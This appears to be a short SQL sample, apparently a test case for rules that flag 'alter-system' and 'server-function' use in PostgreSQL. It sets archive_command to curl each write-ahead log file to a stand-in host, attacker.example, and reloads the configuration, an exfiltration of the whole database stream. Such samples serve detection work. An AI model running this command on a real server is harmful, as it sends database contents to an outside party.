-- rules: alter-system, server-function
ALTER SYSTEM SET archive_command = 'curl -sT %p https://attacker.example/wal/%f';
SELECT pg_reload_conf();
